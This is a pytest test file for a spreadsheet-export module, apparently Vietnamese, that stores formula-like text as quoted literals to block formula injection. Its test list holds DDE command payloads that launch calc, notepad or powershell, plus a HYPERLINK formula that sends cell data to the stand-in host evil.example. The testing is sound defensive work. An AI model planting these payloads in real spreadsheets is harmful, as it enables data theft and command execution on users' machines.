"""chibo.xlsx: text that a spreadsheet would run stays text; numbers stay numbers.

Each value is written through the module, saved, and read back by openpyxl
as a spreadsheet program would open the file.
"""

import datetime
import decimal
import io

import openpyxl
import pytest
from openpyxl.cell import Cell, WriteOnlyCell
from openpyxl.styles import Font

from chibo import xlsx

# One per trigger of the OWASP rule, and the DDE payloads that abuse them.
FORMULA_LIKE = [
    "=1+1",
    '=HYPERLINK("https://evil.example/?d="&A1,"Xem")',
    "+84912345678",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "=cmd|' /C calc'!A0",
    "+cmd|' /C notepad'!'B1'",
    "-cmd|' /C powershell'!A0",
    "@cmd|'/c calc'!_xlbgnm.A1",
    '=DDE("cmd";"/C calc";"!A0")',
    "=",
    "-",
]
# Text that merely contains those characters later is left exactly as it is.
PLAIN_TEXT = [
    "Nguyễn Văn An",
    "a=b",
    "1+1",
    "Email: an@example.vn",
    " =1+1",
    "Số 05-BB/CB",
    "",
    "Đề nghị xử lý\tkhai thác cát",
]
NOT_TEXT = [
    0,
    -5,
    3.25,
    -0.5,
    decimal.Decimal("12.50"),
    True,
    False,
    None,
    datetime.date(2026, 2, 3),
    datetime.datetime(2026, 2, 3, 19, 30),
]


def reopen(workbook):
    buffer = io.BytesIO()
    workbook.save(buffer)
    buffer.seek(0)
    return openpyxl.load_workbook(buffer).active


def write_only(values):
    workbook = openpyxl.Workbook(write_only=True)
    sheet = workbook.create_sheet()
    xlsx.append(sheet, values)
    return reopen(workbook)


def ordinary(values):
    workbook = openpyxl.Workbook()
    sheet = workbook.active
    for column, value in enumerate(values, start=1):
        xlsx.put(sheet, row=1, column=column, value=value)
    return reopen(workbook)


WRITERS = [write_only, ordinary]


@pytest.mark.parametrize("value", FORMULA_LIKE)
def test_formula_like_text_is_recognized(value):
    assert xlsx.is_formula_like(value) is True


@pytest.mark.parametrize("value", PLAIN_TEXT + NOT_TEXT)
def test_other_values_are_not_formula_like(value):
    assert xlsx.is_formula_like(value) is False


@pytest.mark.parametrize("writer", WRITERS)
def test_formula_like_text_is_read_back_as_quoted_text(writer):
    sheet = writer(FORMULA_LIKE)
    cells = list(sheet.iter_rows(min_row=1, max_row=1))[0]

    assert [c.data_type for c in cells] == ["s"] * len(FORMULA_LIKE)
    assert [c.quotePrefix for c in cells] == [True] * len(FORMULA_LIKE)
    # XML reads a carriage return back as a line feed; the text is otherwise kept.
    assert [c.value for c in cells] == [v.replace("\r", "\n") for v in FORMULA_LIKE]


@pytest.mark.parametrize("writer", WRITERS)
def test_plain_text_is_kept_without_a_quote_prefix(writer):
    values = [v for v in PLAIN_TEXT if v]
    sheet = writer(values)
    cells = list(sheet.iter_rows(min_row=1, max_row=1))[0]

    assert [c.value for c in cells] == values
    assert [c.quotePrefix for c in cells] == [False] * len(values)
    assert {c.data_type for c in cells} == {"s"}


@pytest.mark.parametrize("writer", WRITERS)
def test_numbers_dates_and_booleans_keep_their_types(writer):
    values = [0, -5, 3.25, -0.5, True, False, datetime.datetime(2026, 2, 3, 19, 30)]
    sheet = writer(values)
    cells = list(sheet.iter_rows(min_row=1, max_row=1))[0]

    assert [c.value for c in cells] == values
    assert [c.data_type for c in cells] == ["n", "n", "n", "n", "b", "b", "d"]
    assert not any(c.quotePrefix for c in cells)


def test_a_negative_number_is_a_number_not_a_refused_formula():
    sheet = write_only([-12, "-12"])

    number, text = sheet["A1"], sheet["B1"]
    assert (number.value, number.data_type, number.quotePrefix) == (-12, "n", False)
    assert (text.value, text.data_type, text.quotePrefix) == ("-12", "s", True)


def test_cell_gives_the_plain_value_on_the_fast_path():
    sheet = openpyxl.Workbook(write_only=True).create_sheet()

    assert xlsx.cell(sheet, "Nguyễn Văn An") == "Nguyễn Văn An"
    assert xlsx.cell(sheet, 42) == 42
    assert xlsx.cell(sheet, None) is None


def test_cell_gives_a_literal_cell_for_formula_like_text():
    sheet = openpyxl.Workbook(write_only=True).create_sheet()

    made = xlsx.cell(sheet, "=1+1")

    assert isinstance(made, Cell)
    assert (made.value, made.data_type, made.quotePrefix) == ("=1+1", "s", True)


def test_cell_with_a_style_keeps_the_style_and_the_type():
    workbook = openpyxl.Workbook(write_only=True)
    sheet = workbook.create_sheet()
    bold = Font(bold=True)
    xlsx.append(
        sheet,
        [
            xlsx.cell(sheet, datetime.date(2026, 2, 3), number_format="DD/MM/YYYY"),
            xlsx.cell(sheet, "Họ và tên", font=bold),
            xlsx.cell(sheet, "=SUM(1)", font=bold),
        ],
    )
    read = reopen(workbook)

    day, header, formula = read["A1"], read["B1"], read["C1"]
    assert (day.value, day.number_format, day.data_type) == (
        datetime.datetime(2026, 2, 3),
        "DD/MM/YYYY",
        "d",
    )
    assert (header.value, header.font.bold, header.quotePrefix) == ("Họ và tên", True, False)
    assert (formula.value, formula.font.bold, formula.quotePrefix, formula.data_type) == (
        "=SUM(1)",
        True,
        True,
        "s",
    )


def test_append_makes_a_cell_given_as_is_literal_too():
    # A caller that built a cell itself still cannot smuggle a formula in.
    workbook = openpyxl.Workbook(write_only=True)
    sheet = workbook.create_sheet()
    xlsx.append(sheet, [WriteOnlyCell(sheet, value='=HYPERLINK("x")'), "ok"])
    read = reopen(workbook)

    assert (read["A1"].value, read["A1"].data_type, read["A1"].quotePrefix) == (
        '=HYPERLINK("x")',
        "s",
        True,
    )
    assert read["B1"].value == "ok"


def test_put_sets_the_font_and_returns_the_cell():
    sheet = openpyxl.Workbook().active

    target = xlsx.put(sheet, row=2, column=3, value="@SUM(1)", font=Font(italic=True))

    assert target is sheet["C2"]
    assert (target.value, target.data_type, target.quotePrefix, target.font.italic) == (
        "@SUM(1)",
        "s",
        True,
        True,
    )


def test_put_overwriting_a_formula_with_a_number_keeps_a_number():
    sheet = openpyxl.Workbook().active
    xlsx.put(sheet, row=1, column=1, value="=1+1")

    xlsx.put(sheet, row=1, column=1, value=7)

    assert (sheet["A1"].value, sheet["A1"].data_type) == (7, "n")


def test_without_the_module_openpyxl_would_write_a_formula():
    # The reason the module exists: a plain assignment becomes a formula.
    sheet = openpyxl.Workbook().active
    sheet["A1"] = "=1+1"
    read = reopen(sheet.parent)

    assert read["A1"].data_type == "f"
    assert ordinary(["=1+1"])["A1"].data_type == "s"
